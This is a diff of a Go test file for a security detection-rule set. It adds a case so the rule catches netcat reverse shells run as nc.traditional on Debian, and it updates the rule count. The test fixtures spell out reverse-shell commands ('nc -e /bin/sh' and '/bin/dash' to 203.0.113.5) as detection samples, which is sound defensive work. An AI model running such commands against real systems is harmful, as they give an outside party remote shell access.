@@ -89,6 +89,9 @@ var defaultRuleCases = map[string]struct{ yes, no map[string]any }{
 	"7f734ed0-4f47-46c0-837f-6ee62505abd9": { // nc -e shell
 		ecsProcess("/usr/bin/nc", args("nc", "-e", "/bin/sh", "203.0.113.5", "4444"), nil),
 		ecsProcess("/usr/bin/nc", args("nc", "-l", "-p", "4444"), nil)},
+	"2f6afa5b-4161-4c38-b336-bd63ab1c5c60": { // Cairn's: nc -e under its Debian name
+		ecsProcess("/usr/bin/nc.traditional", args("nc", "-e", "/bin/dash", "203.0.113.5", "9001"), nil),
+		ecsProcess("/usr/bin/nc.traditional", args("nc", "-z", "203.0.113.5", "9001"), nil)},
 	"093d68c7-762a-42f4-9f46-95e79142571a": { // nice shell
 		ecsProcess("/usr/bin/nice", args("nice", "/bin/sh"), nil), ecsProcess("/usr/bin/nice", args("nice", "-n", "10", "make"), nil)},
 	"457df417-8b9d-4912-85f3-9dbda39c3645": { // nohup from /tmp
@@ -174,7 +177,7 @@ func TestCuratedSetAttribution(t *testing.T) {
 	d, err := loadDefaults()
 	require.NoError(t, err)
 	require.Empty(t, d.unsup, "every curated rule loads")
-	require.Len(t, d.rules, 42)
+	require.Len(t, d.rules, 43)
 	for _, r := range d.rules {
 		assert.NotEmpty(t, r.Author, "%s: the licence needs the author in match output", r.File)
 		assert.NotEmpty(t, r.Tactics, "%s: ATT&CK tactics", r.File)
